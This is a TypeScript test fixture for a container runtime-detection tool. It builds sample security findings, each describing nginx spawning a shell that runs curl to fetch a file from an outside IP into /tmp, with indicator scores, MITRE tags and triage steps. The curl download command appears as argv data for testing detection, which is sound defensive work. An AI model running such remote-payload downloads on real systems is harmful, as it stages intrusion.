import type { Finding } from '../../src/model/finding.ts';

/** A finding as detection makes one: curl downloaded into /tmp and piped to a shell, in a pod. */
export function aFinding(change: Partial<Finding> = {}): Finding {
  return {
    schema: 'lanner.finding/v1',
    id: 'f-1a2b3c',
    revision: 1,
    time: '2026-11-22T12:00:00.123456789Z',
    severity: 'high',
    score: 75,
    title: 'curl in shop/web-7d9f (registry.example/shop/web:1.4.2)',
    tool: 'curl',
    category: 'download',
    why: ['curl was started by a shell that the web server started', 'its output goes to /tmp'],
    indicators: [
      {
        id: 'web_server_ancestor',
        points: 45,
        hard: true,
        evidence: 'nginx → sh → curl',
        why: 'A web server has no reason to start curl.',
        mitre: ['T1190'],
      },
      {
        id: 'writable_directory',
        points: 30,
        hard: false,
        evidence: '/tmp/x',
        why: 'The file is written to a directory that anyone may write.',
        mitre: ['T1105'],
      },
    ],
    mitre: ['T1105', 'T1190'],
    triage: [
      { text: 'Look at what runs in the pod.', command: 'kubectl -n shop exec web-7d9f -- ps auxf' },
      { text: 'Keep the file before the pod ends.' },
    ],
    exec: {
      id: 'exec-1',
      time: '2026-11-22T12:00:00.123456789Z',
      sensor: 'tetragon',
      source: 'tetragon',
      node: 'node-1',
      cluster: 'prod-eu',
      container: { id: '4f1c0a9be2d4', name: 'web', runtime: 'containerd' },
      image: {
        reference: 'registry.example/shop/web:1.4.2',
        registry: 'registry.example',
        repository: 'registry.example/shop/web',
        tag: '1.4.2',
        digest:
          'registry.example/shop/web@sha256:3f1c5d2a9b8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a',
      },
      pod: {
        namespace: 'shop',
        name: 'web-7d9f',
        labels: { app: 'web', team: 'shop' },
        workload: 'web',
        workload_kind: 'Deployment',
      },
      process: {
        binary: '/usr/bin/curl',
        argv: ['curl', '-fsSL', 'http://203.0.113.7/x', '-o', '/tmp/x'],
        argv_quality: 'exact',
        argv0_known: true,
        cwd: '/var/www',
        pid: 4711,
        uid: 33,
        user: 'www-data',
      },
      ancestors: [
        {
          binary: '/bin/sh',
          argv: ['sh', '-c', 'curl -fsSL http://203.0.113.7/x -o /tmp/x'],
          argv_quality: 'exact',
          argv0_known: true,
          pid: 4710,
          place: 'container',
          from: 'sensor',
        },
        {
          binary: '/usr/sbin/nginx',
          argv: ['nginx', '-g', 'daemon off;'],
          argv_quality: 'exact',
          argv0_known: true,
          pid: 1,
          place: 'container',
          from: 'table',
        },
      ],
    },
    ...change,
  };
}

/** As many findings, each with an id of its own. */
export function findings(count: number, change: Partial<Finding> = {}): Finding[] {
  return Array.from({ length: count }, (_, index) => aFinding({ id: `f-${index}`, ...change }));
}
